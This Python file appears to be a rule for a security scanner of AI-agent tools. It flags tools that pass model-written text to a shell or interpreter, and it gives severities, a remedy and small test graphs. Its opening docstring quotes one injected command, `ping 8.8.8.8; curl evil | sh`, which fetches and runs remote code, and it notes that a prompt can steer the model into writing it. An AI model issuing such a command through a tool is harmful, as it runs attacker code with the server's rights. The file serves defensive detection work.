"""A tool passes what the model writes to a shell or to an interpreter.

Why it matters: the argument is chosen by a model that reads untrusted text. `ping 8.8.8.8; curl evil | sh` is one prompt
away, with the rights of the server.

How to fix: call the program with a list of arguments and without a shell, check each argument against what it may be, and
never `eval` or `exec` model output.

What it does not see: programs that interpret their arguments themselves (`find -exec`, `git --upload-pack`).
"""

from __future__ import annotations

from upright.graph.graph import Graph
from upright.judge.questions import says, tool_does
from upright.judge.rule import Rule
from upright.model.asset import Asset, AssetKind
from upright.model.finding import Judgement, Severity


def judge(tool: Asset, graph: Graph) -> Judgement | None:
    """Lighter only when a person sees the command first, or where code is evaluated without its built-in functions: what
    it may still reach through the classes of what it is given takes some doing.
    """
    if says(tool, "shell_limited") and not says(tool, "shell"):
        what = "evaluates what the model writes; taking its built-in functions away does not hold it"
        return tool_does(
            tool, graph, "shell_limited", what, public=Severity.HIGH, asked=Severity.MEDIUM, usual=Severity.HIGH
        )
    what = "passes what the model writes to a shell or interpreter"
    return tool_does(tool, graph, "shell", what, asked=Severity.MEDIUM)


RULE = Rule(
    id="tool-passes-input-to-shell",
    title="A tool passes model input to a shell or interpreter",
    assesses=frozenset({AssetKind.TOOL, AssetKind.DATA_STORE}),
    severity=Severity.CRITICAL,
    signals=("grd.output_encoding", "agt.sandbox", "grd.structured"),
    judge=judge,
    remedy="Call the program without a shell, with a list of checked arguments; never eval or exec what a model wrote.",
    remediations=("call-without-shell", "withdraw-tool", "remove-mcp-server"),
    weakness=("CWE-78", "CWE-94", "LLM05:2025", "ASI05", "AML.T0050", "AML.T0053"),
    breaks=(
        """
        mcp_server net
        tool ping {shell=true}
        net -contains-> ping
        """,
        "tool evaluate {shell=true confirmation=true}",
        "tool calculate {shell_limited=true}",
    ),
    holds=("tool ping", "tool ping {shell=false}", "tool bash {type=builtin_tool}"),
)
